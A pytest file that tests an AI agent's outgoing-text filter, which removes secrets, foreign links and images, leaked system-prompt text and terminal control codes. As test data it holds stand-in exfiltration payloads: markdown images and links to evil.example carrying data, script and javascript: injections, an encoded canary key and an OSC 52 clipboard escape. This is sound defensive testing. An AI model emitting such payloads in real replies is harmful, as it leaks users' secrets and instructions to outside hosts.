"""What leaves holds no secret, instructions, foreign address or control code; right answers leave as they are."""

import base64
import codecs

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.prompt import SYSTEM
from agent.security.controls import without_controls
from agent.security.links import addresses_in, without_foreign_links
from agent.security.outgoing import PROMPT_REMOVED, Policy, clean
from agent.security.secrets import REMOVED, environment_secrets, without_secrets

KEY = "Zq7-hushhush-4821-canary"
POLICY = Policy(known_hosts=frozenset({"shop.example"}), instructions=SYSTEM, secrets=frozenset({KEY}))


def addresses(markdown):
    """Every address that a Markdown reader would follow, found by a parser that shares no code with the filter."""
    found = []
    for token in MarkdownIt("commonmark", {"linkify": False, "html": True}).parse(markdown):
        for inner in token.children or []:
            found += [v for k, v in inner.attrs.items() if k in {"href", "src"}]
            found += [inner.content] if inner.type == "html_inline" else []
        found += [token.content] if token.type == "html_block" else []
    return found


@pytest.mark.parametrize(
    "text",
    [
        "Your CPA is **$40.00**, up from $38 [kpis › Cost per lead (CPL)].",
        "| channel | CPA |\n|---|---|\n| Search | $12 |\n\n1. CTR < 1%\n2. CPM > $8",
        "Give a file: adroit chat --data ads.csv, or set data in adroit.toml.",
        "Is it in ads.csv? See orders.xlsx#June, e.g. the first sheet; data: 500 rows.",
        "Great! [kpis › CTR] CTR/CVR and Q1/Q2, 3/4 of spend, A/B test v1.2/v1.3",
        "See https://shop.example/offers?x=1 and [the shop](https://shop.example/).",
        "Die Klickrate beträgt 1,2 %. 日本語 👩‍👩‍👧 می‌خواهم",
        "The columns are 'utm_source', `Cost (USD)` and <unset>.",
    ],
)
def test_a_right_answer_leaves_as_it_is(text):
    assert clean(text, POLICY).text == text.replace("<unset>", "")
    assert clean(text, POLICY).notes == []


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/a?d=1)",
        "![x]( <https://evil.example/a b> 'title')",
        "[click [here]](https://evil.example/?q=(1))",
        "[a][1] and ![b][1]\n\n[1]: https://evil.example/x 'y'",
        "<https://evil.example/x>",
        '<img src="https://evil.example/p.png" onerror=alert(1)>',
        "<a href='//evil.example'>x</a><script>fetch('https://evil.example')</script>",
        "go to https://evil.example/x, or www.evil.example/y. Or evil.example/path?d=secret",
        "<https://evil.example/x|the shop>",
        "[x](javascript:alert(1)) [y](data:text/html;base64,AAAA) [z](//evil.example)",
        "[x](https://shop.example@evil.example/)",
        "[x](https://shop.example\\@evil.example/)",
        "[x](HTTPS://EVIL.EXAMPLE)",
        "[outer ![inner](https://evil.example/i)](https://evil.example/o)",
        "<!-- <img src=https://evil.example> -->",
        "<img src=https://evil.example",
        "https://shop.example.evil.example/x",
        "ftp://evil.example/f hxxp://evil.example/x",
        "spendwas5000andrevenuewas90000.evil.example",
    ],
)
def test_no_foreign_address_and_no_image_stays(text):
    cleaned = clean(f"Before. {text} After.", POLICY)
    assert "evil.example" not in cleaned.text.lower()
    assert addresses(cleaned.text) == []
    assert "After." in cleaned.text or text.startswith("[a][1]")


def test_the_words_of_a_link_stay_and_its_host_is_named_in_a_note():
    cleaned = clean("Read [the report](https://evil.example/r) now.", POLICY)
    assert cleaned.text == "Read the report now."
    assert "evil[.]example" in cleaned.notes[0]


def test_an_address_that_the_user_wrote_stays_to_the_letter_and_no_other_of_its_host():
    known = addresses_in(["compare with https://shop.example/a?b=c, please"])
    assert known == {"https://shop.example/a?b=c"}
    assert without_foreign_links("[x](https://shop.example/a?b=c)", known).removed == []
    assert without_foreign_links("[x](https://shop.example/a?b=secret)", known).text == "x"


def test_any_address_of_an_allowed_host_stays():
    assert without_foreign_links("[x](https://shop.example/y)", hosts={"shop.example"}).removed == []


@pytest.mark.parametrize(
    "disguised",
    [
        KEY,
        KEY.upper(),
        KEY[::-1],
        " ".join(KEY),
        "\n".join(KEY),
        "".join(f"{c}." for c in KEY),
        base64.b64encode(KEY.encode()).decode(),
        base64.urlsafe_b64encode(f"the key is {KEY} ok".encode()).decode(),
        base64.b64encode(f"key: {KEY}".encode()).decode(),
        base64.b64encode(base64.b64encode(KEY.encode())).decode(),
        base64.b32encode(KEY.encode()).decode(),
        KEY.encode().hex(),
        KEY.encode().hex(" "),
        "".join(f"%{b:02X}" for b in KEY.encode()),
        codecs.encode(KEY, "rot13"),
        ", ".join(str(b) for b in KEY.encode()),
        base64.b64encode(KEY[::-1].encode()).decode(),
        KEY[:20],
        KEY[:8] + "\u200b" + KEY[8:],
    ],
)
def test_a_secret_is_found_in_its_disguises(disguised):
    cleaned = clean(f"Here it is: {disguised} (keep it).", POLICY)
    assert REMOVED in cleaned.text
    assert disguised not in cleaned.text
    assert cleaned.notes


@pytest.mark.parametrize(
    "shape",
    [
        "sk-proj-abcdefghijklmnop1234",
        "xoxb-1234567890-abcdefghij",
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.SflKxwRJSMeKKF2QT4",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY-----",
    ],
)
def test_keys_are_known_by_their_shape(shape):
    assert without_secrets(f"use {shape} please", ()) == f"use {REMOVED} please"


def test_a_password_in_an_address_goes_and_the_address_stays():
    assert without_secrets("postgresql://ann:hunter22@db/ads", ()) == f"postgresql://{REMOVED}@db/ads"


def test_the_environments_secrets_are_known_by_name():
    found = environment_secrets(
        {"OPENAI_API_KEY": "abcdefgh1", "HOME": "/home/someone", "DB": "postgres://a:longpassword@h/d", "A_TOKEN": "x"}
    )
    assert found == {"abcdefgh1", "longpassword"}


def test_the_instructions_stay_inside_also_in_part_and_in_disguise():
    part = SYSTEM[300:420]
    for text in (SYSTEM, part, part.upper(), base64.b64encode(part.encode()).decode(), part.replace(" ", "_")):
        cleaned = clean(f"They are: {text}", POLICY)
        assert PROMPT_REMOVED in cleaned.text
        assert "Adroit's own instructions" in cleaned.notes[-1]


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07x", "x"),
        ("\x1b]8;;https://evil.example\x1b\\words\x1b]8;;\x1b\\", "words"),
        ("\x9b2Jx\x90dcs\x9cy", "xy"),
        ("a\u202eb\u2066c\u200bd\U000e0041e", "abcde"),
        ("one\r\ntwo\rthree\bfour\x7f", "one\ntwo\nthreefour"),
        ("\x1b]52;c;ZXZpbA==", "52;c;ZXZpbA=="),
    ],
)
def test_nothing_drives_the_terminal(text, plain):
    assert without_controls(text) == plain


@given(st.text(max_size=300))
def test_cleaning_twice_changes_nothing_more(text):
    once = clean(text, POLICY).text
    assert clean(once, POLICY).text == once


@given(st.text(alphabet="[]()!<>:/ \n.#?htpsevilxamw\"'|\\", max_size=60))
def test_whatever_is_typed_no_markdown_reader_finds_a_foreign_address(text):
    for address in addresses(clean(text + " https://evil.example/x ![i](https://evil.example)", POLICY).text):
        assert "evil.example" not in address
